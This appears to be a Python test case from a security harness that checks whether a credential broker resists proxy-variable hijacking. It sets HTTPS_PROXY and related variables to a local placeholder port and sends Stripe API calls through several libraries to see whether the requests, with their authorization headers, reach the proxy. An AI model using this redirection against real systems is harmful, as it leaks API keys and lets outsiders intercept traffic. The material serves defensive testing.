# attack: HTTPS_PROXY and its relatives send every library's requests, with their headers, to a server of the attacker's choice
# expect: broker
# validator: refused
import os
import urllib.request

import httpx
import requests
import stripe

PROXY = "http://127.0.0.1:@TCP_PORT@"
for name in ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
    os.environ[name] = PROXY
os.environ.pop("NO_PROXY", None)
os.environ["REQUEST_METHOD"] = ""  # A CGI variable that would switch one of them off.


def by_the_sdk():
    client = stripe.StripeClient(os.environ["STRIPE_API_KEY"], max_network_retries=0)
    return client.v1.customers.retrieve("cus_1").id


WAYS = {
    "requests": lambda: requests.get("https://api.stripe.com/v1/customers/cus_1", timeout=0.5).status_code,
    "httpx": lambda: httpx.get("https://api.stripe.com/v1/customers/cus_1", timeout=0.5).status_code,
    "urllib": lambda: urllib.request.urlopen("https://api.stripe.com/v1/customers/cus_1", timeout=0.5).status,
    "plain http": lambda: requests.get("http://api.stripe.com/v1/customers/cus_1", timeout=0.5).status_code,
    "sdk": by_the_sdk,
    "socks": lambda: httpx.get("https://api.stripe.com/", proxy="socks5://127.0.0.1:@TCP_PORT@", timeout=0.5).status_code,
}
for name, way in WAYS.items():
    try:
        # The arena hears whether the proxy was contacted.
        print(name, way())
    except Exception as error:
        print(name, type(error).__name__, str(error)[:120])
